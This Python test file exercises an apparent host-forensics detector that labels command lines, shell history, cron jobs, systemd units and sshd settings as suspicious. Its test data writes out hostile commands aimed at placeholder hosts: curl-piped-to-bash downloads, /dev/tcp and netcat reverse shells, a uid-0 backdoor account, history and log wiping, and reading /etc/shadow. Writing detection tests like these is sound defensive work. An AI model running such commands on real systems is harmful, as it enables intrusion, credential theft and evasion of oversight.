from pyspark.sql import functions as F

from quarrystone.operators import analyzers, tradecraft


def test_commands_are_judged_by_what_they_run(spark):
    said = {
        "curl -s http://a/b.sh | sudo bash": "download run by a shell", "wget -qO- https://a/b|sh -s x": "download run by a shell", "curl https://a/b -o c": "download", "curl --version": None,
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1": "shell over a network connection", "nc -e /bin/sh 1.2.3.4 9": "shell over a network connection", "nc -zv host 22": None,
        "useradd -o -u 0 toor": "second account with uid 0", "useradd -m ann": None, "echo aGk= | base64 -d | sh": "decoded payload run", "base64 -d f > g": None,
        "unset HISTFILE": "history cleared or switched off", "rm ~/.bash_history": "history cleared or switched off", "cat ~/.bash_history": None, "shred -u /var/log/auth.log": "logs removed", "ls /var/log/": None,
        "chmod u+s /bin/x": "setuid put on a file", "chmod 4755 x": "setuid put on a file", "chmod 755 x": None, "/dev/shm/a -b": "program run from a temporary folder", "ls /tmp/": None,
        "sudo cat /etc/shadow": "password hashes read", "systemctl disable --now auditd": "protection switched off", "systemctl status auditd": None, "iptables -F": "protection switched off", "chattr +i /x": "file made immutable", "": None, "   ": None, "|": None,
    }
    df = spark.createDataFrame([(i, c) for i, c in enumerate([*said, None])], "i int, c string")
    assert [r[0] for r in df.orderBy("i").select(tradecraft.judged(F.col("c"))["why"]).collect()] == [*said.values(), None]


def test_history_persistence_and_missing_history(spark):
    history = spark.createDataFrame([("a", "ls", None), ("a", "/tmp/x", None), ("a", "cat /etc/shadow", None), ("b", "iptables -F", None)], "user string, command string, timestamp_utc timestamp")
    got = {r["user"]: (r["severity"], r["count"], list(r["reasons"])) for r in tradecraft.history_findings(history, ("user",)).collect()}
    assert got == {"a": ("HIGH", 2, ["password hashes read: 1", "program run from a temporary folder: 1"]), "b": ("MEDIUM", 1, ["protection switched off: 1"])}
    users = spark.createDataFrame([("ann", "/bin/bash", "/home/ann/"), ("bob", "/bin/zsh", "/home/bob"), ("root", "/bin/bash", "/root"), ("www", "/bin/bash", "/var/www"), ("svc", "/usr/sbin/nologin", "/home/svc")], "username string, shell string, home string")
    files = spark.createDataFrame([("/home/ann/.bash_history", 0), ("/root/.bash_history", 5)], "path string, size long")
    assert sorted((r["username"], r["state"]) for r in tradecraft.missing_history(users, files).collect()) == [("ann", "empty"), ("bob", "not collected")]
    cron = spark.createDataFrame([("curl http://a/b | sh",), ("/usr/bin/backup",)], "command string")
    units = spark.createDataFrame([("-/dev/shm/x | /bin/true",), ("/usr/sbin/sshd -D",)], "exec_start string")
    scripts = spark.createDataFrame([("# curl http://a | sh",), ("export HISTFILE=/dev/null",)], "line string")
    got = {r["title"]: (r["severity"], r["count"]) for r in tradecraft.persistence_findings(cron, units, scripts).collect()}
    assert got == {"Suspicious content in scheduled task definitions": ("HIGH", 1), "Suspicious systemd unit definition(s)": ("HIGH", 1), "Suspicious content in startup / shell / hook scripts": ("HIGH", 1)}


def test_settings_capabilities_and_mounts(spark):
    text = ["# PermitRootLogin yes", "PermitRootLogin no", "PermitRootLogin yes", "PasswordAuthentication=yes", "StrictModes no", "Match User x", "PermitEmptyPasswords yes"]
    lines = spark.createDataFrame([("/etc/ssh/sshd_config", i, x) for i, x in enumerate(text)], "path string, line_no long, line string")
    settings = tradecraft.sshd_settings(lines)
    assert {r["setting"]: r["value"] for r in settings.collect()} == {"permitrootlogin": "no", "passwordauthentication": "yes", "strictmodes": "no"}

    def found(rows, rules, evidence):
        return {(r["severity"], r["title"]): r["count"] for r in analyzers.findings(analyzers.hits(rows, rules, F.col(evidence)), rules).collect()}

    assert found(settings, tradecraft.sshd_rules(), "setting") == {("HIGH", "Permissive sshd configuration"): 1, ("INFO", "sshd configuration of interest"): 1}
    caps = spark.createDataFrame([("/bin/ping", "cap_net_raw=ep"), ("/bin/py", "cap_setuid=ep")], "path string, capabilities string")
    assert found(caps, tradecraft.capability_rules(), "path") == {("HIGH", "File capabilities that enable privilege escalation"): 1, ("INFO", "2 file(s) with capabilities"): 2}
    mounts = spark.createDataFrame([("/tmp", "rw,nosuid"), ("/dev/shm/", "rw,noexec"), ("/", "rw")], "mountpoint string, options string")
    assert found(mounts, tradecraft.mount_rules(), "mountpoint") == {("LOW", "Temp filesystem mounted with exec permitted"): 1}
